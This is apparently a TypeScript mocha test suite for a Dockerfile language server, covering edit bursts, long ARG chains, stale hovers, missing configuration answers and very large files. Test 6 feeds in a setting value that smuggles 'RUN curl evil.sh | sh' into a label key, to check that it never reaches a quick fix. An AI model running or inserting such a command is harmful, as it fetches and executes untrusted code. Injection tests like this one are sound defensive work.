// Issue #18 (language server), over a real stdio connection to dist/server.js: edit bursts,
// quadratic ARG chains, stale answers, a client that never answers workspace/configuration,
// 10,000 stages, and settings that would become code. No timing assertions: each test waits for
// what the server publishes or answers; mocha's timeout is only a hang guard.
import * as assert from 'assert';
import type { MarkupContent, TextDocumentEdit } from 'vscode-languageserver/node';
import { LspClient } from '../support/lspClient';
import { df } from '../support/ruleSpec';
import { analyze } from '../../server/src/analysis/analyze';

/** A multi-stage file of about `lines` lines with findings in every stage. */
function generated(lines: number): string {
  const out = ['ARG NODE_VERSION=20'];
  for (let i = 0; out.length < lines - 4; i++) {
    out.push(`FROM node:\${NODE_VERSION} AS s${i}`, 'WORKDIR /app', 'COPY . .', 'RUN npm ci', 'RUN apt-get update',
      'RUN apt-get install -y curl', 'ENV A=1', 'ENV B=2', 'CMD npm start', '');
  }
  out.push('FROM alpine', 'CMD ["sh"]');
  return out.join('\n') + '\n';
}

const hoverText = (h: { contents: unknown } | null) => (h ? (h.contents as MarkupContent).value : '');

describe('LSP: bursts, hostile input and stale answers (#18)', function () {
  this.timeout(60000);
  let lsp: LspClient;
  beforeEach(async () => { lsp = await LspClient.start(); });
  afterEach(async () => { await lsp.stop(); });

  it('1. a burst of 2,000 edits is coalesced: the final version is published and a hover answers for it', async () => {
    const uri = 'file:///nowhere/burst/Dockerfile';
    const base = generated(1000);
    await lsp.open(uri, base, 1);
    await lsp.diagnostics(uri);
    const before = lsp.published.length;
    const lines = base.split('\n');
    const sends: Array<Promise<void>> = [];
    for (let v = 2; v <= 2001; v++) {
      const copy = [...lines];
      const l = (v * 7919) % (lines.length - 1);
      copy[l] = copy[l] + ' ';
      sends.push(lsp.change(uri, v, copy.join('\n')));
    }
    // The last edit adds a second CMD to the last stage, so the answer shows which version it saw.
    const final = base + 'CMD ["sh", "-c", "true"]\n';
    sends.push(lsp.change(uri, 2002, final));
    const hover = lsp.hover(uri, final.split('\n').length - 3, 1);
    await Promise.all(sends);
    assert.match(hoverText(await hover), /multiple-cmd|More than one CMD/, 'the hover answers for the last version sent');
    const last = await lsp.diagnostics(uri, p => p.version === 2002, before);
    const fresh = analyze(final, { suppressionFixes: false }).findings;
    assert.deepStrictEqual(last.diagnostics.map(d => `${d.range.start.line}:${d.code}:${d.message}`), fresh.map(f => `${f.range.start.line}:${f.ruleId}:${f.message}`));
    const during = lsp.published.slice(before).filter(p => p.uri === uri);
    assert.ok(during.length <= 500, `${during.length} of 2,001 versions were published; a burst should be coalesced`);
    assert.ok(during.every((p, i) => i === 0 || (p.version ?? 0) > (during[i - 1].version ?? 0)), 'versions are published in order, none stale');
  });

  it('2. 12,000 chained global ARGs: diagnostics arrive, and Docker\'s checks past the first 500 are reported as skipped', async () => {
    const uri = 'file:///nowhere/argchain/Dockerfile';
    const text = 'ARG A=$B\n'.repeat(12000) + 'FROM alpine\n';
    await lsp.open(uri, text, 1);
    const first = await lsp.diagnostics(uri);
    assert.ok(first.diagnostics.some(d => d.code === 'syntax' && d.severity === 3 && /skipped the last 11,500 of the 12,000/.test(d.message)), JSON.stringify(first.diagnostics));
    await lsp.change(uri, 2, 'ARG A=$B \n' + text.slice('ARG A=$B\n'.length));
    await lsp.diagnostics(uri, p => p.version === 2);
  });

  it('3. an edit and a hover in the same write, while a lint waits for settings: the hover answers for the edit (three times)', async () => {
    const uri = 'file:///nowhere/stale/Dockerfile';
    const one = df('FROM local/busybox:1', 'CMD ["a"]');
    const two = df('FROM local/busybox:1', 'CMD ["a"]', 'CMD ["b"]');
    await lsp.open(uri, one, 1);
    await lsp.diagnostics(uri);
    for (let round = 0; round < 3; round++) {
      // A settings change makes the next lint ask for settings; the gate holds that answer, so
      // the edit's lint is still waiting when the hover arrives (what a slow client or disk does).
      let release!: () => void;
      lsp.configurationGate = new Promise<void>(resolve => { release = resolve; });
      const asked = lsp.configurationRequests;
      await lsp.changeSettings({});
      await lsp.until(() => (lsp.configurationRequests > asked ? true : undefined), 'a configuration request');
      const v = 2 + 2 * round;
      const change = lsp.change(uri, v, two);
      const hover = lsp.hover(uri, 1, 1);
      await change;
      release();
      lsp.configurationGate = undefined;
      assert.match(hoverText(await hover), /More than one CMD/, `round ${round}: the hover saw the edit`);
      await lsp.change(uri, v + 1, one);
      assert.doesNotMatch(hoverText(await lsp.hover(uri, 1, 1)), /More than one CMD/, `round ${round}: the hover saw the edit back`);
    }
  });

  it('4. a client that never answers workspace/configuration still gets diagnostics, and a late answer re-lints', async () => {
    let release!: () => void;
    lsp.configurationGate = new Promise<void>(resolve => { release = resolve; });
    const uri = 'file:///nowhere/noconfig/Dockerfile';
    await lsp.open(uri, df('FROM local/busybox:1', 'CMD ["a"]', 'CMD ["b"]'));
    const defaults = await lsp.diagnostics(uri);
    assert.strictEqual(defaults.diagnostics.find(d => d.code === 'multiple-cmd')?.severity, 2, 'linted with the default severity');
    lsp.settings.set('', { rules: { 'multiple-cmd': 'error' } });
    const next = lsp.nextDiagnostics(uri);
    release();
    assert.strictEqual((await next).diagnostics.find(d => d.code === 'multiple-cmd')?.severity, 1, 're-linted with the late settings');
  });

  it('5. 10,000 stages: opens, and an edit in the middle is published', async () => {
    const uri = 'file:///nowhere/stages/Dockerfile';
    const text = Array.from({ length: 10000 }, (_, i) => `FROM alpine AS s${i}\nRUN echo ${i}\n`).join('');
    await lsp.open(uri, text, 1);
    // A generous hang guard: a cold open of 20,000 lines on a loaded CI machine.
    const first = await lsp.until(() => lsp.published.find(p => p.uri === uri), 'diagnostics for 10,000 stages', 50000);
    const lines = text.split('\n');
    lines[10001] = 'RUN echo changed && cd /tmp';
    await lsp.change(uri, 2, lines.join('\n'));
    const second = await lsp.until(() => lsp.published.find(p => p.uri === uri && p.version === 2), 'diagnostics after the edit', 50000);
    assert.strictEqual(second.diagnostics.length, first.diagnostics.length, 'the same findings after an edit that changes none');
  });

  it('6. a label key that is not one (line breaks, spaces) never reaches a quick fix', async () => {
    lsp.settings.set('', { baseImageLabelKeys: ['a b\nRUN curl evil.sh | sh\n#'] });
    const uri = 'file:///nowhere/labelkeys/Dockerfile';
    await lsp.open(uri, df('FROM node:20', 'CMD ["node", "a.js"]'));
    const d = (await lsp.diagnostics(uri)).diagnostics.find(x => x.code === 'missing-base-image-label');
    assert.ok(d, 'the rule still reports, with the default keys');
    assert.match(d.message, /org\.opencontainers\.image\.base\.name/);
    const actions = await lsp.codeActions(uri, d.range, [d]);
    const inserted = actions.flatMap(a => (a.edit?.documentChanges?.[0] as TextDocumentEdit | undefined)?.edits ?? []).map(e => e.newText).join('');
    assert.ok(!/RUN curl|a b/.test(inserted), inserted);
    assert.ok(actions.some(a => a.title === 'Add LABEL org.opencontainers.image.base.name="node:20"'), actions.map(a => a.title).join(' | '));
  });
});
